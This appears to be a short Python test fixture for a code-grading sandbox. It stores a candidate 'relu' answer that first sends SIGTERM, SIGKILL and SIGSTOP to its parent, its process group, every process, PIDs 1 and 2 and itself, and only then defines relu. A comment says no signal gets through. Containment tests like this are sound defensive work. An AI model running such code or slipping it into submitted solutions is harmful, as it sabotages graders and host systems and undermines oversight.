"""Sends signals to its parent, its group and everyone."""

answers = {
    "relu": """
import os
import signal

for target in (os.getppid(), 0, -1, 1, 2, os.getpid()):
    for kind in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            os.kill(target, kind)
        except OSError:
            pass

def relu(x):
    return np.maximum(x, 0)
"""
}
scores = {}  # no signal reaches anyone, and it goes on to a right answer
